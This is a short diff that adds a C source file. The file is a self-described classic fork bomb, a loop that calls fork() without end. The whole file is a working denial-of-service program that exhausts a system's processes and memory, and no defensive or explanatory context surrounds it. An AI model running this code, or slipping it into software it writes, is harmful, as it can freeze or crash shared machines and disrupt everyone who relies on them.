@@ -1,0 +1,5 @@
+// Classic fork bomb: every process keeps forking.
+#include <unistd.h>
+int main() {
+    for (;;) fork();
+}
